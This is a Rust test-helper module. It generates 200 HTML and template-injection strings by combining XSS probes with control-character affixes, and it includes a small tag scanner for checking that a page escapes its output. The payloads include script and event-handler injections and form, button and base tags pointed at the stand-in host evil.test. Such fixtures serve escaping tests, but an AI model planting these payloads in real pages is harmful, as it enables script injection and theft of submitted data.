//! Texts that would be more than text, were they not escaped, and what a browser would find in a page.

/// Two hundred texts that would be more than text, were they not escaped.
pub fn hostile() -> Vec<String> {
    let cores = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "' onmouseover='alert(1)",
        "</textarea><script>alert(1)</script>",
        "</title><b>x",
        "<!--",
        "]]>",
        "javascript:alert(1)",
        "&lt;script&gt;",
        "{{7*7}}",
        "${7*7}",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc=x>",
        "<form action=//evil.test>",
        "<input name=key value=x>",
        "<button formaction=//evil.test>Accept 2 files</button>",
        "<meta http-equiv=refresh content=0>",
        "<base href=//evil.test>",
        "<style>*{display:none}</style>",
    ];
    let around = [
        ("", ""),
        ("x ", ""),
        ("", " x"),
        ("\"", "\""),
        ("'", "'"),
        ("<", ">"),
        ("&", ";"),
        ("\u{202e}", ""),
        ("\0", ""),
        ("\x1b[31m", "\x1b[0m"),
    ];
    cores.iter().flat_map(|core| around.iter().map(move |(a, b)| format!("{a}{core}{b}"))).collect()
}

/// Returns a tag without the values of its attributes.
pub fn unquoted(tag: &str) -> String {
    tag.split('"').step_by(2).collect()
}

/// Returns the inside of each tag, as a browser would find them outside of quotes.
pub fn tags(html: &str) -> Vec<String> {
    let mut found = vec![];
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let mut quote = None;
        let end = rest.char_indices().find(|(_, c)| match (quote, c) {
            (None, '>') => true,
            (None, '"' | '\'') => {
                quote = Some(*c);
                false
            }
            (Some(open), c) if open == *c => {
                quote = None;
                false
            }
            _ => false,
        });
        let end = end.map_or(rest.len(), |(at, _)| at);
        found.push(rest[..end].to_owned());
        rest = &rest[end..];
    }
    found
}
